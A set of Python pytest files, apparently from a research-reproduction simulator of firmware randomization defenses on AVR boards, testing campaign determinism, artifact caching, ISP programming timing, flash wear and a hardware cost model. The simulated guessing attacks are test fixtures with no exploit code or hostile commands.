    assert aggregates["scenarios"] == 2
    assert aggregates["attacks"] == 2
    assert aggregates["effects"] == 0
    assert aggregates["detections"] == 2
    assert aggregates["detection_rate"] == 1.0
    assert aggregates["by_outcome"] == {"deflected": 2}
    assert aggregates["errors"] == 0


def test_merged_snapshot_spans_all_scenarios():
    specs = specs_for(2, telemetry=True)
    report = CampaignRunner(jobs=2).run(specs)
    merged = report.merged_snapshot
    assert merged is not None
    assert merged["sources"] == 2
    detected = [e for e in merged["events"] if e["event"] == "attack.detected"]
    assert len(detected) == 2
    assert {e["source"] for e in detected} == {0, 1}


# -- phase attribution -------------------------------------------------------

def test_phase_breakdown_shape_and_order():
    specs = specs_for(2)
    report = CampaignRunner(jobs=1).run(specs)
    assert list(report.phases) == [
        name for name in PHASE_ORDER if name in report.phases
    ]
    for name in ("build", "program", "warmup", "run"):
        assert name in report.phases
        cell = report.phases[name]
        assert cell["scenarios"] == 2
        assert cell["host_ms"] >= 0.0 and cell["sim_ms"] >= 0.0
    # the attack phase only counts scenarios that actually attacked
    assert report.phases["attack"]["scenarios"] == 2
    # programming is simulated time (the ISP timing model), not host time
    assert report.phases["program"]["sim_ms"] > 0.0


def test_phase_deterministic_fields_identical_serial_vs_parallel():
    specs = specs_for(3)
    serial = CampaignRunner(jobs=1).run(specs)
    parallel = CampaignRunner(jobs=4).run(specs)
    assert deterministic_phases(serial.phases) == deterministic_phases(
        parallel.phases
    )
    # host_ms is wall time: present in both, excluded from the contract
    assert all("host_ms" in cell for cell in serial.phases.values())
    assert all(
        "host_ms" not in cell
        for cell in deterministic_phases(serial.phases).values()
    )


def test_aggregate_phases_sums_per_scenario_cells():
    specs = specs_for(2)
    results = [run_scenario(spec, index=i) for i, spec in enumerate(specs)]
    totals = aggregate_phases(results)
    for name, cell in totals.items():
        expected = sum(r.phases[name]["sim_ms"] for r in results
                       if name in r.phases)
        assert cell["sim_ms"] == pytest.approx(expected, abs=1e-6)


def test_progress_callback_reports_each_scenario_once():
    specs = specs_for(3)
    for jobs in (1, 3):
        calls = []
        CampaignRunner(
            jobs=jobs,
            progress=lambda d, t, i, o: calls.append((d, t, i, o)),
        ).run(specs)
        assert [c[0] for c in calls] == [1, 2, 3]
        assert sorted(c[2] for c in calls) == [0, 1, 2]
        assert all(t == 3 for _, t, _, _ in calls)
        assert all(outcome == "deflected" for _, _, _, outcome in calls)


def test_progress_reports_pool_errors_too():
    bad = ScenarioSpec(app="nonesuch", attack="guess", label="broken")
    calls = []
    CampaignRunner(
        jobs=1, progress=lambda d, t, i, o: calls.append(o)
    ).run([bad])
    assert calls == ["exception"]


# -- failure semantics -------------------------------------------------------

def test_worker_crash_is_retried_and_recovers(tmp_path):
    marker = tmp_path / "crash.marker"
    specs = specs_for(2, worker_fault_marker=str(marker))
    report = CampaignRunner(jobs=2).run(specs)
    assert marker.exists()  # a worker really did die mid-campaign
    assert report.aggregates["errors"] == 0
    assert report.aggregates["detections"] == 2
    assert report.runner["worker_deaths"] == 0  # retry cleared them


def test_worker_crash_without_retry_reports_partial_results(tmp_path):
    marker = tmp_path / "crash.marker"
    specs = specs_for(3)[:2] + [
        ScenarioSpec(app="testapp", attack="guess",
                     worker_fault_marker=str(marker), label="doomed")
    ]
    report = CampaignRunner(jobs=2, retry_worker_death=False).run(specs)
    assert marker.exists()
    # every spec still has an ordered slot; the dead ones carry errors
    assert len(report.results) == 3
    assert report.aggregates["errors"] >= 1
    errored = [r for r in report.results if r.outcome == "error"]
    assert all(r.status == "unknown" and r.error for r in errored)
    assert report.runner["worker_deaths"] >= 1


def test_worker_fault_marker_is_inert_inline(tmp_path):
    marker = tmp_path / "never.marker"
    spec = ScenarioSpec(app="testapp", attack="guess",
                        worker_fault_marker=str(marker))
    report = CampaignRunner(jobs=1).run([spec])
    assert not marker.exists()  # only pool workers honor the marker
    assert report.aggregates["errors"] == 0


def test_task_exception_becomes_error_result_not_crash():
    bad = ScenarioSpec(app="nonesuch", attack="guess", label="broken")
    good = specs_for(1)[0]
    report = CampaignRunner(jobs=1).run([bad, good])
    assert report.results[0].outcome == "error"
    assert "nonesuch" in report.results[0].error
    assert report.results[1].outcome == "deflected"
    assert report.aggregates["errors"] == 1


def test_map_indexed_orders_and_wraps_exceptions():
    def square(x):
        if x == 2:
            raise ValueError("boom")
        return x * x

    # inline path
    results = map_indexed(square, [1, 2, 3], jobs=1)
    assert results[0] == 1 and results[2] == 9
    assert isinstance(results[1], PoolTaskError)
    assert results[1].kind == "exception"
    assert "boom" in results[1].message
