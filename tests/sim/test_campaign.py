"""CampaignRunner: determinism contract, pool failure semantics, sinks.

The determinism suite is the acceptance test for the whole scenario
layer: the same spec list must yield identical aggregates and identical
JSONL bytes whether it runs inline, across 4 workers, or twice in a row.
"""

import json

import pytest

from repro.analysis.attack_sim import campaign_specs, guessing_campaign
from repro.sim import (
    CampaignRunner,
    PoolTaskError,
    ScenarioSpec,
    aggregate_results,
    derive_seed,
    map_indexed,
    run_scenario,
)


def specs_for(n, base_seed=99, telemetry=False, **overrides):
    return [
        ScenarioSpec(
            app="testapp",
            seed=derive_seed(base_seed, index, "board"),
            attack="guess",
            attack_seed=derive_seed(base_seed, index, "attack"),
            telemetry=telemetry,
            label=f"g{index}",
            **overrides,
        )
        for index in range(n)
    ]


# -- determinism contract ----------------------------------------------------

def test_serial_vs_parallel_bit_identical(tmp_path):
    specs = specs_for(4, telemetry=True)
    serial_path = tmp_path / "serial.jsonl"
    parallel_path = tmp_path / "parallel.jsonl"
    serial = CampaignRunner(jobs=1, jsonl_path=serial_path).run(specs)
    parallel = CampaignRunner(jobs=4, jsonl_path=parallel_path).run(specs)
    assert serial.aggregates == parallel.aggregates
    assert serial.records() == parallel.records()
    assert serial_path.read_bytes() == parallel_path.read_bytes()
    # runner diagnostics are the non-deterministic part, by design
    assert serial.runner["jobs"] == 1 and parallel.runner["jobs"] == 4


def test_repeated_parallel_runs_identical(tmp_path):
    specs = specs_for(3)
    first_path = tmp_path / "first.jsonl"
    second_path = tmp_path / "second.jsonl"
    first = CampaignRunner(jobs=4, jsonl_path=first_path).run(specs)
    second = CampaignRunner(jobs=4, jsonl_path=second_path).run(specs)
    assert first.aggregates == second.aggregates
    assert first_path.read_bytes() == second_path.read_bytes()


def test_guessing_campaign_parallelism_bit_identical(testapp):
    serial = guessing_campaign(testapp, attempts=3, seed=41)
    parallel = guessing_campaign(testapp, attempts=3, seed=41, parallelism=4)
    assert (serial.attempts, serial.effects, serial.detections,
            serial.randomizations_consumed, serial.still_flying,
            serial.per_attempt_detected) == (
        parallel.attempts, parallel.effects, parallel.detections,
        parallel.randomizations_consumed, parallel.still_flying,
        parallel.per_attempt_detected)


def test_campaign_specs_are_stable(testapp):
    assert campaign_specs(testapp, 3, seed=8) == campaign_specs(testapp, 3, seed=8)
    assert campaign_specs(testapp, 3, seed=8) != campaign_specs(testapp, 3, seed=9)


# -- aggregates and sinks ----------------------------------------------------

def test_jsonl_sink_layout(tmp_path):
    specs = specs_for(2)
    path = tmp_path / "out.jsonl"
    report = CampaignRunner(jobs=1, jsonl_path=path).run(specs)
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert len(lines) == 3  # one per spec + trailing aggregates
    assert [line["index"] for line in lines[:-1]] == [0, 1]
    assert lines[-1]["campaign.aggregates"] == report.aggregates
    for line in lines[:-1]:
        assert line["spec"]["app"] == "testapp"
        assert "wall_s" not in line


def test_aggregates_shape():
    results = [run_scenario(spec, index=i) for i, spec in enumerate(specs_for(2))]
    aggregates = aggregate_results(results)
    assert aggregates["scenarios"] == 2
    assert aggregates["attacks"] == 2
    assert aggregates["effects"] == 0
    assert aggregates["detections"] == 2
    assert aggregates["detection_rate"] == 1.0
    assert aggregates["by_outcome"] == {"deflected": 2}
    assert aggregates["errors"] == 0


def test_merged_snapshot_spans_all_scenarios():
    specs = specs_for(2, telemetry=True)
    report = CampaignRunner(jobs=2).run(specs)
    merged = report.merged_snapshot
    assert merged is not None
    assert merged["sources"] == 2
    detected = [e for e in merged["events"] if e["event"] == "attack.detected"]
    assert len(detected) == 2
    assert {e["source"] for e in detected} == {0, 1}


# -- failure semantics -------------------------------------------------------

def test_worker_crash_is_retried_and_recovers(tmp_path):
    marker = tmp_path / "crash.marker"
    specs = specs_for(2, worker_fault_marker=str(marker))
    report = CampaignRunner(jobs=2).run(specs)
    assert marker.exists()  # a worker really did die mid-campaign
    assert report.aggregates["errors"] == 0
    assert report.aggregates["detections"] == 2
    assert report.runner["worker_deaths"] == 0  # retry cleared them


def test_worker_crash_without_retry_reports_partial_results(tmp_path):
    marker = tmp_path / "crash.marker"
    specs = specs_for(3)[:2] + [
        ScenarioSpec(app="testapp", attack="guess",
                     worker_fault_marker=str(marker), label="doomed")
    ]
    report = CampaignRunner(jobs=2, retry_worker_death=False).run(specs)
    assert marker.exists()
    # every spec still has an ordered slot; the dead ones carry errors
    assert len(report.results) == 3
    assert report.aggregates["errors"] >= 1
    errored = [r for r in report.results if r.outcome == "error"]
    assert all(r.status == "unknown" and r.error for r in errored)
    assert report.runner["worker_deaths"] >= 1


def test_worker_fault_marker_is_inert_inline(tmp_path):
    marker = tmp_path / "never.marker"
    spec = ScenarioSpec(app="testapp", attack="guess",
                        worker_fault_marker=str(marker))
    report = CampaignRunner(jobs=1).run([spec])
    assert not marker.exists()  # only pool workers honor the marker
    assert report.aggregates["errors"] == 0


def test_task_exception_becomes_error_result_not_crash():
    bad = ScenarioSpec(app="nonesuch", attack="guess", label="broken")
    good = specs_for(1)[0]
    report = CampaignRunner(jobs=1).run([bad, good])
    assert report.results[0].outcome == "error"
    assert "nonesuch" in report.results[0].error
    assert report.results[1].outcome == "deflected"
    assert report.aggregates["errors"] == 1


def test_map_indexed_orders_and_wraps_exceptions():
    def square(x):
        if x == 2:
            raise ValueError("boom")
        return x * x

    # inline path
    results = map_indexed(square, [1, 2, 3], jobs=1)
    assert results[0] == 1 and results[2] == 9
    assert isinstance(results[1], PoolTaskError)
    assert results[1].kind == "exception"
    assert "boom" in results[1].message
