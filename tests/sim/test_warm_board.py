"""Warm board fork: cache provisioning tiers and the byte-identity contract.

The artifact cache's whole claim is that it changes *host* time only:
a scenario's deterministic record and its simulated phase times must be
byte-identical whether the board was provisioned cold (full preprocess +
ISP programming), from a cached deploy blob, or from a booted-board
snapshot restored in a different process.  These tests pin that.
"""

import pytest

import repro.sim.scenario as scenario_mod
from repro.sim import Board, ScenarioSpec, run_scenario
from repro.sim.artifacts import ArtifactCache


def spec_for(**overrides):
    defaults = dict(
        app="testapp", seed=7, attack="guess", attack_seed=11, label="warm"
    )
    defaults.update(overrides)
    return ScenarioSpec(**defaults)


def sim_phases(result):
    return {name: cell["sim_ms"] for name, cell in result.phases.items()}


# -- byte-identity across provisioning tiers ---------------------------------

@pytest.mark.parametrize("defense", ("mavr", "daedalus", "ctomp"))
def test_cold_prime_warm_records_identical(tmp_path, defense):
    spec = spec_for(defense=defense)
    cold = run_scenario(spec, 3)
    prime = run_scenario(spec, 3, cache=ArtifactCache(tmp_path))
    # a fresh cache instance (a different pool worker) restores from disk
    warm_cache = ArtifactCache(tmp_path)
    warm = run_scenario(spec, 3, cache=warm_cache)
    assert warm_cache.hits.get("board") == 1
    assert cold.to_record() == prime.to_record() == warm.to_record()
    assert sim_phases(cold) == sim_phases(prime) == sim_phases(warm)


def test_warm_restore_skips_programming_host_time(tmp_path):
    spec = spec_for()
    cache = ArtifactCache(tmp_path)
    cold = run_scenario(spec, 0, cache=cache)
    warm = run_scenario(spec, 0, cache=ArtifactCache(tmp_path))
    setup = ("build", "preprocess", "program", "boot")
    cold_setup = sum(cold.phases[name]["host_ms"] for name in setup)
    warm_setup = sum(warm.phases[name]["host_ms"] for name in setup)
    assert warm_setup < cold_setup
    # the simulated ISP/boot time is replayed, not skipped
    assert warm.phases["program"]["sim_ms"] == cold.phases["program"]["sim_ms"]


# -- provisioning tiers ------------------------------------------------------

def test_board_provisioning_tiers(tmp_path):
    spec = spec_for()
    assert Board(spec).provisioned == "cold"
    cache = ArtifactCache(tmp_path)
    run_scenario(spec, 0, cache=cache)  # primes deploy blob + snapshot
    assert Board(spec, cache=cache).provisioned == "warm"
    # snapshot-ineligible specs still reuse the deploy blob
    observed = spec_for(telemetry=True)
    board = Board(observed, cache=cache)
    assert board.provisioned == "cached"
    assert board.restored is None


def test_image_override_bypasses_cache(tmp_path):
    cache = ArtifactCache(tmp_path)
    spec = spec_for()
    run_scenario(spec, 0, cache=cache)
    image = scenario_mod.load_spec_image(spec)
    board = Board(spec, image=image, cache=cache)
    assert board.provisioned == "cold"


def test_ineligible_specs_write_no_board_snapshot(tmp_path):
    cache = ArtifactCache(tmp_path)
    for ineligible in (
        spec_for(telemetry=True),
        spec_for(profile="block"),
        spec_for(flight_recorder=True),
    ):
        run_scenario(ineligible, 0, cache=cache)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith("board-")]
    # ...but the firmware/deploy artifacts were still shared
    assert [p for p in tmp_path.iterdir() if p.name.startswith("deploy-")]


def test_snapshot_key_includes_board_seed(tmp_path):
    cache = ArtifactCache(tmp_path)
    run_scenario(spec_for(seed=7), 0, cache=cache)
    # a different board seed randomizes differently: its snapshot misses,
    # so the scenario boots cold and stays correct
    other = run_scenario(spec_for(seed=8), 0, cache=cache)
    assert other.to_record() == run_scenario(spec_for(seed=8), 0).to_record()
    boards = [p for p in tmp_path.iterdir() if p.name.startswith("board-")]
    assert len(boards) == 2


# -- the bounded inline-image cache ------------------------------------------

def test_inline_image_cache_is_bounded_lru(monkeypatch):
    class FakeImage:
        built = 0

        @classmethod
        def from_preprocessed_hex(cls, hex_text):
            cls.built += 1
            return (cls.built, hex_text)

    monkeypatch.setattr(scenario_mod, "FirmwareImage", FakeImage)
    monkeypatch.setattr(scenario_mod, "_IMAGE_CACHE", type(scenario_mod._IMAGE_CACHE)())
    limit = scenario_mod._IMAGE_CACHE_LIMIT
    for index in range(limit + 4):
        scenario_mod._cached_inline_image(f"hex-{index}")
    assert len(scenario_mod._IMAGE_CACHE) == limit
    assert FakeImage.built == limit + 4
    # newest entry is still memoized...
    scenario_mod._cached_inline_image(f"hex-{limit + 3}")
    assert FakeImage.built == limit + 4
    # ...the evicted oldest is rebuilt
    scenario_mod._cached_inline_image("hex-0")
    assert FakeImage.built == limit + 5
