"""Resume determinism: an interrupted campaign, resumed from its shard
checkpoints, must emit byte-identical JSONL and aggregates to a run that
was never interrupted — at any jobs level (ISSUE 9 satellite)."""

import json

import pytest

from repro.sim import CampaignRunner, ScenarioSpec, derive_seed, spec_digest


def specs_for(n, base_seed=17, marker=None, marker_index=None):
    """Spec list; ``marker`` arms the worker-death injection, on every
    spec or (with ``marker_index``) on just one mid-campaign spec.  The
    marker is observability-free: records and digests ignore it, so
    marked and unmarked lists produce identical JSONL."""
    return [
        ScenarioSpec(
            app="testapp",
            seed=derive_seed(base_seed, index, "board"),
            attack="guess",
            attack_seed=derive_seed(base_seed, index, "attack"),
            label=f"g{index}",
            worker_fault_marker=(
                marker if marker_index is None or index == marker_index
                else None
            ),
        )
        for index in range(n)
    ]


@pytest.mark.parametrize("resume_jobs", (1, 4))
def test_interrupted_then_resumed_matches_uninterrupted(tmp_path, resume_jobs):
    marker = str(tmp_path / "fault-marker")
    ckpt = tmp_path / "ckpt"
    # interrupt: the first worker to pick up a spec dies without cleanup,
    # and with retry disabled its unfinished specs degrade to errors —
    # exactly the state a killed campaign leaves behind
    # the marker sits on a mid-campaign spec: a worker death breaks the
    # whole pool, so everything before it checkpointed and everything
    # in flight or after degrades to an error
    interrupted = CampaignRunner(
        jobs=2, retry_worker_death=False, checkpoint_dir=ckpt,
        jsonl_path=tmp_path / "interrupted.jsonl",
    ).run(specs_for(6, marker=marker, marker_index=3))
    assert interrupted.aggregates["errors"] > 0
    completed = interrupted.aggregates["scenarios"] - interrupted.aggregates["errors"]
    assert 0 < completed < 6  # genuinely partial

    baseline = CampaignRunner(
        jobs=1, jsonl_path=tmp_path / "baseline.jsonl"
    ).run(specs_for(6))

    resumed = CampaignRunner(
        jobs=resume_jobs, resume=True, checkpoint_dir=ckpt,
        jsonl_path=tmp_path / "resumed.jsonl",
    ).run(specs_for(6, marker=marker))
    assert resumed.runner["resumed"] == completed
    assert resumed.aggregates == baseline.aggregates
    assert resumed.records() == baseline.records()
    assert (tmp_path / "resumed.jsonl").read_bytes() == (
        tmp_path / "baseline.jsonl"
    ).read_bytes()


def test_fully_checkpointed_resume_runs_nothing(tmp_path):
    ckpt = tmp_path / "ckpt"
    specs = specs_for(4)
    full = CampaignRunner(
        jobs=2, checkpoint_dir=ckpt, jsonl_path=tmp_path / "full.jsonl"
    ).run(specs)
    resumed = CampaignRunner(
        jobs=1, resume=True, checkpoint_dir=ckpt,
        jsonl_path=tmp_path / "resumed.jsonl",
        # any spec actually re-running would explode here
        timeout_s=None, retry_worker_death=False,
    ).run(specs_for(4, marker=str(tmp_path / "never-created")))
    assert resumed.runner["resumed"] == 4
    assert not (tmp_path / "never-created").exists()
    assert (tmp_path / "resumed.jsonl").read_bytes() == (
        tmp_path / "full.jsonl"
    ).read_bytes()


def test_checkpoints_pin_their_spec_digest(tmp_path):
    ckpt = tmp_path / "ckpt"
    CampaignRunner(jobs=1, checkpoint_dir=ckpt).run(specs_for(3, base_seed=17))
    # a different campaign's specs at the same indices must not replay
    resumed = CampaignRunner(jobs=1, resume=True, checkpoint_dir=ckpt).run(
        specs_for(3, base_seed=18)
    )
    assert resumed.runner["resumed"] == 0


def test_corrupt_checkpoint_lines_are_skipped(tmp_path):
    ckpt = tmp_path / "ckpt"
    specs = specs_for(3)
    CampaignRunner(jobs=1, checkpoint_dir=ckpt, shards=1).run(specs)
    shard = ckpt / "shard-0.jsonl"
    lines = shard.read_text().splitlines()
    assert len(lines) == 3
    # torn tail (interrupted append) + a foreign digest + junk
    entry = json.loads(lines[1])
    entry["spec"] = "0" * 32
    shard.write_text(
        "\n".join([lines[0], json.dumps(entry), lines[2][:-20], "not json"])
        + "\n"
    )
    resumed = CampaignRunner(
        jobs=1, resume=True, checkpoint_dir=ckpt, shards=1
    ).run(specs)
    assert resumed.runner["resumed"] == 1  # only the intact line replays
    baseline = CampaignRunner(jobs=1).run(specs)
    assert resumed.records() == baseline.records()


def test_resume_requires_checkpoint_dir():
    with pytest.raises(ValueError):
        CampaignRunner(resume=True)


def test_spec_digest_ignores_the_fault_marker(tmp_path):
    plain = specs_for(1)[0]
    marked = specs_for(1, marker=str(tmp_path / "m"))[0]
    assert spec_digest(plain) == spec_digest(marked)
    assert spec_digest(plain) != spec_digest(specs_for(1, base_seed=18)[0])
