"""ArtifactCache: keying, atomic publish, memoization, accounting."""

import pickle

import pytest

from repro.sim.artifacts import (
    MEMO_LIMIT,
    ArtifactCache,
    artifact_key,
    get_cache,
)


# -- keys --------------------------------------------------------------------

def test_key_is_stable_and_prefixed():
    key = artifact_key("build", app="testapp", toolchain="mavr")
    assert key == artifact_key("build", toolchain="mavr", app="testapp")
    assert key.startswith("build-")


def test_key_changes_with_any_field_and_kind():
    base = artifact_key("build", app="testapp", vulnerable=False)
    assert artifact_key("build", app="testapp", vulnerable=True) != base
    assert artifact_key("build", app="arduplane", vulnerable=False) != base
    assert artifact_key("deploy", app="testapp", vulnerable=False) != base


# -- bytes/text round trips --------------------------------------------------

def test_bytes_round_trip_and_counts(tmp_path):
    cache = ArtifactCache(tmp_path)
    key = artifact_key("deploy", app="x")
    assert cache.get_bytes(key) is None
    cache.put_bytes(key, b"\x00\xff blob")
    assert cache.get_bytes(key) == b"\x00\xff blob"
    assert cache.counts() == {
        "hits": {"deploy": 1}, "misses": {"deploy": 1}, "stores": {"deploy": 1},
    }


def test_text_round_trip(tmp_path):
    cache = ArtifactCache(tmp_path)
    key = artifact_key("hex", app="x")
    cache.put_text(key, ":00000001FF\n")
    assert cache.get_text(key) == ":00000001FF\n"


def test_put_leaves_no_temp_files(tmp_path):
    cache = ArtifactCache(tmp_path)
    for index in range(5):
        cache.put_bytes(artifact_key("build", index=index), b"x" * index)
    names = [path.name for path in tmp_path.iterdir()]
    assert len(names) == 5
    assert not any(name.startswith(".") for name in names)


def test_second_cache_instance_sees_published_artifacts(tmp_path):
    key = artifact_key("build", app="shared")
    ArtifactCache(tmp_path).put_bytes(key, b"shared")
    assert ArtifactCache(tmp_path).get_bytes(key) == b"shared"


# -- pickled objects ---------------------------------------------------------

def test_object_round_trip_memoizes_same_object(tmp_path):
    cache = ArtifactCache(tmp_path)
    key = artifact_key("build", app="obj")
    cache.put_object(key, {"a": [1, 2, 3]})
    first = cache.get_object(key)
    assert first == {"a": [1, 2, 3]}
    assert cache.get_object(key) is first  # per-process memo
    # a fresh cache instance unpickles a new but equal object
    assert ArtifactCache(tmp_path).get_object(key) == first


def test_torn_object_file_reads_as_miss(tmp_path):
    cache = ArtifactCache(tmp_path)
    key = artifact_key("board", app="torn")
    cache.path_for(key).write_bytes(
        pickle.dumps({"ok": True})[:-3]  # truncated mid-stream
    )
    assert cache.get_object(key) is None


def test_object_memo_is_bounded(tmp_path):
    cache = ArtifactCache(tmp_path)
    for index in range(MEMO_LIMIT + 8):
        cache.put_object(artifact_key("build", index=index), index)
    assert len(cache._memo) == MEMO_LIMIT
    # the oldest entries were evicted but remain readable from disk
    assert cache.get_object(artifact_key("build", index=0)) == 0


# -- get_cache resolution ----------------------------------------------------

def test_get_cache_passthrough_and_singleton(tmp_path):
    assert get_cache(None) is None
    cache = ArtifactCache(tmp_path)
    assert get_cache(cache) is cache
    resolved = get_cache(str(tmp_path))
    assert isinstance(resolved, ArtifactCache)
    assert get_cache(str(tmp_path)) is resolved
    assert get_cache(tmp_path) is resolved  # Path and str resolve the same
