"""Differential page reflash at the ISP level: digests, fallbacks, wear
ordering, and the page-granular erase primitive."""

import pytest

from repro.avr.memory import FlashMemory
from repro.errors import FlashWearError, HardwareError, MemoryAccessError
from repro.hw.isp import IspProgrammer
from repro.hw.serialbus import FLASH_PAGE_SIZE, PAGE_COMMAND_OVERHEAD_BYTES


def _image(n_pages, fill=0xAB):
    return bytes([fill]) * (FLASH_PAGE_SIZE * n_pages)


def test_second_program_of_same_image_is_differential_noop():
    flash = FlashMemory()
    isp = IspProgrammer()
    image = _image(4)
    isp.program(flash, image)
    assert isp.stats.last_pages_written == 4
    isp.program(flash, image)
    stats = isp.stats
    assert stats.differential_passes == 1
    assert stats.last_pages_written == 0
    assert stats.last_pages_skipped == 4
    assert stats.last_bytes_on_wire == 0
    assert flash.dump(0, len(image)) == image


def test_differential_rewrites_only_changed_pages():
    flash = FlashMemory()
    isp = IspProgrammer()
    image = bytearray(_image(8))
    isp.program(flash, bytes(image))
    image[3 * FLASH_PAGE_SIZE] ^= 0xFF  # dirty exactly one page
    isp.program(flash, bytes(image))
    stats = isp.stats
    assert stats.last_pages_written == 1
    assert stats.last_pages_skipped == 7
    assert stats.last_bytes_on_wire == FLASH_PAGE_SIZE + PAGE_COMMAND_OVERHEAD_BYTES
    assert flash.dump(0, len(image)) == bytes(image)


def test_differential_result_equals_full_reprogram():
    """The page-diff invariant: skipped pages are byte-identical, so the
    array ends up exactly as a from-scratch full program leaves it."""
    first = bytes(range(256)) * 6
    second = bytearray(first)
    second[0] ^= 0x55
    second[5 * FLASH_PAGE_SIZE + 17] ^= 0x77

    flash_diff = FlashMemory()
    isp_diff = IspProgrammer()
    isp_diff.program(flash_diff, first)
    isp_diff.program(flash_diff, bytes(second))
    assert isp_diff.stats.differential_passes == 1

    flash_full = FlashMemory()
    IspProgrammer().program(flash_full, bytes(second))
    assert flash_diff.dump() == flash_full.dump()


def test_foreign_flash_write_forces_full_reprogram():
    """An SPM self-write (V4-style persistence) bumps the generation, so
    the stored digests no longer describe the chip: full fallback."""
    flash = FlashMemory()
    isp = IspProgrammer()
    image = _image(4)
    isp.program(flash, image)
    flash.write_word(10, 0x1234)  # firmware self-modification
    isp.program(flash, image)
    assert isp.stats.differential_passes == 0
    assert isp.stats.last_pages_written == 4
    assert flash.dump(0, len(image)) == image


def test_different_image_length_forces_full_reprogram():
    flash = FlashMemory()
    isp = IspProgrammer()
    isp.program(flash, _image(4))
    shorter = _image(2)
    isp.program(flash, shorter)
    assert isp.stats.differential_passes == 0
    # the full pass chip-erased, so nothing of the longer image survives
    assert flash.dump(0, 4 * FLASH_PAGE_SIZE) == shorter + b"\xff" * (
        2 * FLASH_PAGE_SIZE
    )


def test_force_full_flag():
    flash = FlashMemory()
    isp = IspProgrammer()
    image = _image(3)
    isp.program(flash, image)
    isp.program(flash, image, force_full=True)
    assert isp.stats.differential_passes == 0
    assert isp.stats.last_pages_written == 3


def test_oversized_image_reported_before_wear():
    """Satellite fix: the size check must precede the endurance check."""
    flash = FlashMemory(size=1024)
    isp = IspProgrammer(endurance=1)
    isp.program(flash, b"\x00" * 1024)  # budget now exhausted
    with pytest.raises(HardwareError) as excinfo:
        isp.program(flash, bytes(2048))
    assert not isinstance(excinfo.value, FlashWearError)
    assert "exceeds flash size" in str(excinfo.value)
    # a correctly sized image still trips the wear check
    with pytest.raises(FlashWearError):
        isp.program(flash, b"\x00" * 1024)


def test_estimate_full_ms_is_side_effect_free():
    isp = IspProgrammer()
    before_clock = isp.clock.now_ms
    ms = isp.estimate_full_ms(16 * 1024)
    assert ms > 0
    assert isp.clock.now_ms == before_clock
    assert isp.stats.programming_cycles == 0


def test_erase_page_is_page_granular_and_invalidates():
    flash = FlashMemory()
    flash.load(b"\xaa" * 1024)
    generation = flash.generation
    flash.erase_page(256, 256)
    assert flash.generation == generation + 1
    assert flash.dump(0, 256) == b"\xaa" * 256
    assert flash.dump(256, 256) == b"\xff" * 256
    assert flash.dump(512, 512) == b"\xaa" * 512
    with pytest.raises(MemoryAccessError):
        flash.erase_page(flash.size - 128, 256)
