"""Hardware models: external flash, programming link timing, ISP wear,
clock, and the cost model."""

import math

import pytest

from repro.avr import FlashMemory
from repro.errors import FlashWearError, HardwareError
from repro.hw import (
    BOOTLOADER_ENTRY_MS,
    CostModel,
    ExternalFlash,
    FLASH_ENDURANCE_CYCLES,
    FLASH_PAGE_SIZE,
    IspProgrammer,
    M95M02_SIZE,
    PRODUCTION_LINK,
    PROTOTYPE_LINK,
    ProgrammingLink,
    SimClock,
)


# -- clock ----------------------------------------------------------------

def test_clock_advances():
    clock = SimClock()
    clock.advance_ms(5)
    clock.advance_cycles(16_000)  # 1 ms at 16 MHz
    assert math.isclose(clock.now_ms, 6.0)
    with pytest.raises(ValueError):
        clock.advance_ms(-1)


# -- external flash ----------------------------------------------------------

def test_external_flash_roundtrip():
    chip = ExternalFlash()
    chip.store(b"hello world")
    assert chip.read(0, 5) == b"hello"
    assert chip.read_all() == b"hello world"
    assert chip.write_count == 1
    assert chip.read_count == 2


def test_external_flash_sized_like_app_processor():
    assert M95M02_SIZE == 256 * 1024


def test_external_flash_bounds():
    chip = ExternalFlash(size=16)
    with pytest.raises(HardwareError):
        chip.store(bytes(17))
    with pytest.raises(HardwareError):
        chip.read(10, 10)


def test_external_flash_erase():
    chip = ExternalFlash(size=16)
    chip.store(b"data")
    chip.erase()
    assert chip.read_all() == b""


# -- programming link ----------------------------------------------------------

def test_prototype_link_is_1152_bytes_per_100ms():
    assert math.isclose(PROTOTYPE_LINK.bytes_per_ms, 11.52)


def test_table2_timing_identity():
    """MAVR code size / 11.52 B/ms reproduces the paper's milliseconds."""
    assert math.isclose(PROTOTYPE_LINK.transfer_ms(221_294), 19209.2, abs_tol=0.5)
    assert math.isclose(PROTOTYPE_LINK.transfer_ms(244_292), 21205.9, abs_tol=0.5)
    assert math.isclose(PROTOTYPE_LINK.transfer_ms(177_556), 15412.8, abs_tol=0.5)


def test_production_estimate_about_4s():
    """Paper: 'a conservative estimate on a production PCB ... 4 seconds'."""
    ms = PRODUCTION_LINK.programming_ms(221_294)
    assert 3000 < ms < 5000


def test_programming_overlap_model():
    link = ProgrammingLink(baud=115_200, overlap_flash_writes=False)
    overlapped = PROTOTYPE_LINK.programming_ms(10_000)
    serialized = link.programming_ms(10_000)
    assert serialized > overlapped


def test_transfer_rejects_negative():
    with pytest.raises(ValueError):
        PROTOTYPE_LINK.transfer_ms(-1)


# -- ISP programmer ---------------------------------------------------------------

def test_isp_programs_flash():
    flash = FlashMemory()
    isp = IspProgrammer()
    image = bytes(range(256)) * 5
    elapsed = isp.program(flash, image)
    assert flash.dump(0, len(image)) == image
    assert elapsed > BOOTLOADER_ENTRY_MS
    assert isp.stats.programming_cycles == 1
    assert isp.stats.bytes_programmed == len(image)
    assert math.isclose(isp.clock.now_ms, elapsed)


def test_isp_wear_budget_enforced():
    flash = FlashMemory()
    isp = IspProgrammer(endurance=2)
    isp.program(flash, b"\x00\x00")
    isp.program(flash, b"\x00\x00")
    assert isp.remaining_cycles == 0
    with pytest.raises(FlashWearError):
        isp.program(flash, b"\x00\x00")


def test_isp_rejects_oversized_image():
    flash = FlashMemory(size=1024)
    isp = IspProgrammer()
    with pytest.raises(HardwareError):
        isp.program(flash, bytes(2048))


def test_default_endurance_is_10k():
    assert FLASH_ENDURANCE_CYCLES == 10_000


def test_page_size():
    assert FLASH_PAGE_SIZE == 256


# -- cost model ----------------------------------------------------------------------

def test_cost_model_matches_paper():
    report = CostModel().report()
    assert report["base_usd"] == 159.99
    assert report["extra_usd"] == 11.68
    assert report["increase_pct"] == 7.3
