"""Shared fixtures: session-scoped firmware builds (linking is the slow part)."""

import random

import pytest

from repro.asm.linker import MAVR_OPTIONS, STOCK_OPTIONS
from repro.core.patching import randomize_image
from repro.firmware import TESTAPP, build_app


@pytest.fixture(scope="session")
def testapp():
    """The small vulnerable app, MAVR toolchain (the randomizable build)."""
